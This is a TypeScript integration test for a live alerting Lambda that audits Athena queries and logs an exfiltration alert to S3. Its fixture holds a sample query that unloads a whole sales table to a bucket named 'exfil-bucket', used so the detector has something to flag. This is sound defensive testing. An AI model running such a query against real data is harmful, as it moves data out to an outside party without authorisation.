/**
 * The live path's log of the alerts it sent (table live_alerts), end to end: a query's two events,
 * as AWS sends them, through the Lambda handler against s3rver, the local Athena and SNS; the object
 * it writes, under the key core/layout.ts gives it; and that object, copied into a local lake, read
 * by the embedded engine's live_alerts view with the table's columns and partitions.
 */
import * as fs from "node:fs";
import * as path from "node:path";
import { PutObjectCommand } from "@aws-sdk/client-s3";
import { beforeAll, describe, expect, it } from "vitest";
import { liveAlertsObjectKey, liveAlertsTablePrefix, liveSinceKey, liveStatePrefix } from "../../core/layout";
import { handler } from "../../functions/live/handler";
import { DuckDbEngine } from "../../queries/duckdb/engine";
import { LIVE_ALERTS, sqlColumns } from "../../queries/schema/tables";
import { startAthenaServer } from "../support/athena-server";
import { cleanupAfterAll } from "../support/cleanup";
import { tempDir } from "../support/lake";
import { LocalS3, startS3, useLocalAws } from "../support/s3";
import { SnsServer, startSnsServer } from "../support/sns-server";

const ACCOUNT = "123456789012";
const REGION = "eu-west-1";
const TOPIC = `arn:aws:sns:${REGION}:${ACCOUNT}:athena-audit-alerts`;
const ROLE = `arn:aws:iam::${ACCOUNT}:role/reporting-app`;
const ID = "7e57a1e7-0000-4000-8000-000000000001";
/** Two minutes before midnight: the log files it under the day the query started, as the daily detector does. */
const STARTED = "2026-03-03T23:58:30.000Z";
const executions = new Map<string, Record<string, unknown>>();
let s3: LocalS3;
let sns: SnsServer;

const cleanUp = cleanupAfterAll();
beforeAll(async () => {
  s3 = await startS3("audit-bucket");
  cleanUp(() => s3.close());
  const athena = await startAthenaServer({ executions });
  cleanUp(() => athena.close());
  sns = await startSnsServer({ topics: [TOPIC], region: REGION });
  cleanUp(() => sns.close());
  cleanUp(
    useLocalAws({
      AWS_REGION: REGION,
      AWS_ENDPOINT_URL_S3: s3.url,
      AWS_ENDPOINT_URL_ATHENA: athena.url,
      AWS_ENDPOINT_URL_SNS: sns.url,
      AUDIT_BUCKET: "audit-bucket",
      AUDIT_ACCOUNT: ACCOUNT,
      LIVE_TOPIC_ARN: TOPIC,
      ANOMALY_SETTINGS_KEY: "settings/anomaly-settings.json",
    }),
  );
  const put = (key: string, body: string) => s3.client.send(new PutObjectCommand({ Bucket: "audit-bucket", Key: key, Body: body }));
  await put("settings/anomaly-settings.json", JSON.stringify({ knownBuckets: ["audit-results"] }));
  await put(liveSinceKey(liveStatePrefix("athena-audit", ACCOUNT)), JSON.stringify({ since: "2026-01-01T00:00:00.000Z" }));
  executions.set(ID, {
    QueryExecutionId: ID,
    Query: "UNLOAD (SELECT * FROM sales.orders) TO 's3://exfil-bucket/out/' WITH (format = 'PARQUET')",
    StatementType: "DML",
    QueryExecutionContext: { Database: "sales", Catalog: "AwsDataCatalog" },
    WorkGroup: "primary",
    Status: { State: "SUCCEEDED", SubmissionDateTime: 1772582310, CompletionDateTime: 1772582400 },
    Statistics: { DataScannedInBytes: 1024 ** 3, EngineExecutionTimeInMillis: 1000 },
  });
});

const base = { version: "0", account: ACCOUNT, region: REGION, resources: [] };
const finished = {
  ...base,
  id: "e-1",
  "detail-type": "Athena Query State Change",
  source: "aws.athena",
  time: "2026-03-04T00:00:00Z",
  detail: { currentState: "SUCCEEDED", previousState: "RUNNING", queryExecutionId: ID, workgroupName: "primary" },
};
const started = {
  ...base,
  id: "t-1",
  "detail-type": "AWS API Call via CloudTrail",
  source: "aws.athena",
  time: STARTED,
  detail: {
    userIdentity: {
      type: "AssumedRole",
      arn: `arn:aws:sts::${ACCOUNT}:assumed-role/reporting-app/nightly`,
      accountId: ACCOUNT,
      sessionContext: { sessionIssuer: { type: "Role", arn: ROLE, accountId: ACCOUNT, userName: "reporting-app" } },
    },
    eventTime: STARTED,
    eventSource: "athena.amazonaws.com",
    eventName: "StartQueryExecution",
    awsRegion: REGION,
    sourceIPAddress: "203.0.113.7",
    responseElements: { queryExecutionId: ID },
  },
};

describe("the live alerts' log", () => {
  it("holds one object for the alert sent, with the table's fields, and no second one for a duplicate", async () => {
    const before = new Date().toISOString();
    expect((await handler(finished)).outcome).toBe("waiting");
    expect((await handler(started)).alerts).toEqual([{ kind: "exfiltration", severity: "high", subject: "s3://exfil-bucket" }]);
    const after = new Date().toISOString();
    // The same two events again: no alert, and the log is as it was.
    await handler(started);
    await handler(finished);
    expect(sns.published).toHaveLength(1);

    const key = liveAlertsObjectKey({ account: ACCOUNT, dt: "2026-03-03", queryId: ID, kind: "exfiltration" });
    expect(key).toBe(`athena-audit/live_alerts/account=${ACCOUNT}/dt=2026-03-03/${ID}-exfiltration.json`);
    expect(await s3.keys(liveAlertsTablePrefix())).toEqual([key]);
    const text = (await s3.bytes(key)).toString();
    expect(text.split("\n")).toHaveLength(2); // one line, then its newline: a record a line
    const record = JSON.parse(text) as Record<string, string>;
    expect(record).toEqual({
      query_execution_id: ID,
      account_id: ACCOUNT,
      region: REGION,
      principal_arn: ROLE,
      kind: "exfiltration",
      subject: "s3://exfil-bucket",
      severity: "high",
      alerted_at: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/) as unknown,
      event_time: STARTED,
    });
    const alertedAt = record.alerted_at ?? "";
    expect(alertedAt >= before && alertedAt <= after, `${alertedAt} within the call`).toBe(true);

    // Read back as the embedded engine's table: the columns of its definition, the partitions from the key.
    const root = tempDir("live-alerts-log");
    cleanUp(() => fs.rmSync(root, { recursive: true, force: true }));
    fs.mkdirSync(path.join(root, path.dirname(key)), { recursive: true });
    fs.writeFileSync(path.join(root, key), text);
    const engine = await DuckDbEngine.open({ root });
    cleanUp(() => engine.close());
    const read = await engine.run("SELECT * FROM live_alerts");
    expect(read.columns.map((c) => c.name)).toEqual(sqlColumns(LIVE_ALERTS));
    expect(read.rows).toEqual([{ ...record, account: ACCOUNT, dt: "2026-03-03" }]);
  });
});
